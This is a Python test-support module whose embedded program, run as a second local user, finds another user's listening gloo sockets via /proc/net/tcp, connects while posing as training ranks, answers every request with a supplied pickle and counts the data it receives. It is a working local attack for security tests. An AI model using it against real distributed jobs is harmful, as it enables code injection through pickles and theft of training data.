"""What a second account does to take ranks' places in gloo groups: a program for `SecondUser`.

It asks the kernel for sockets of the victim that listen, connects to each at once with the greetings of several ranks,
and then plays gloo's protocol: it sends a pickle for whatever it is asked, and takes whatever it is offered.  When its
input ends it tells, as JSON, how many connections it had, to how many it was spoken, and how many bytes came.
"""

from __future__ import annotations

import json
from typing import Any

from tests.support.children import read_line
from tests.support.second_user import SecondUser

#: arguments: the victim's uid; the pickle, hexadecimal; the ranks to greet as; how the victims' addresses begin
PROGRAM = r"""
import json, os, select, socket, struct, sys
victim, sent, within = int(sys.argv[1]), bytes.fromhex(sys.argv[2]), sys.argv[4]
ranks = [int(r) for r in sys.argv[3].split(",")]
GIVE, OFFER, ASK, MESSAGE = 1, 2, 3, 4096
known, open_, spoken, came = set(), {}, set(), 0
made = 0

def listening():
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        part = line.split()
        if part[3] == "0A" and int(part[7]) == victim:
            yield part[1]

def message(code, slot, body=b""):
    return struct.pack("<6Q", 48 + len(body), code, slot, 0, len(body), 0) + body

def hear(sock):
    global came
    try:
        data = sock.recv(1 << 20, socket.MSG_DONTWAIT)
    except BlockingIOError:
        return
    except OSError:
        data = b""
    if not data:
        open_.pop(sock, None)
        sock.close()
        return
    spoken.add(sock.fileno())
    held = open_[sock] + data
    while len(held) >= 48:
        size, code, slot, offset, length, _ = struct.unpack_from("<6Q", held)
        if code == GIVE:
            if len(held) < 48 + length:
                break
            came += length
            held = held[48 + length:]
            continue
        held = held[48:]
        if code == ASK:
            sock.sendall(message(OFFER, slot) + message(GIVE, slot, sent.ljust(min(length, 1 << 20) or MESSAGE, b"\0")))
        elif code == OFFER:
            sock.sendall(message(ASK, slot))
    open_[sock] = held

for place in listening():
    known.add(place)
print("ready", flush=True)
while True:
    for place in listening():
        if place in known:
            continue
        known.add(place)
        address, port = place.split(":")
        where = (socket.inet_ntoa(struct.pack("<I", int(address, 16))), int(port, 16))
        if not where[0].startswith(within):
            continue
        for rank in ranks:
            try:
                sock = socket.create_connection(where, timeout=0.3)
                sock.sendall(struct.pack("<q", rank))
            except OSError:
                continue
            open_[sock] = b""
            made += 1
    ready, _, _ = select.select([sys.stdin, *open_], [], [], 0)
    for sock in ready:
        if sock is sys.stdin:
            if not sys.stdin.readline():
                print(json.dumps({"made": made, "spoken": len(spoken), "bytes": came}), flush=True)
                sys.exit()
        else:
            try:
                hear(sock)
            except OSError:
                open_.pop(sock, None)
                sock.close()
"""


class GlooAttack:
    """The attack, from its start to `end`.

    Args:
        sent: the pickle that it answers with.
        ranks: greetings, separated by commas.
        within: how the addresses begin that are attacked: other tests of this machine have the same user.
    """

    def __init__(self, user: SecondUser, victim: int, sent: bytes, ranks: str = "0,1", within: str = "") -> None:
        self.process = user.start(PROGRAM, str(victim), sent.hex(), ranks, within)
        assert read_line(self.process) == "ready\n"

    def end(self) -> dict[str, Any]:
        """What it has reached."""
        said = self.process.communicate(timeout=60)[0]
        return json.loads(said.splitlines()[-1])
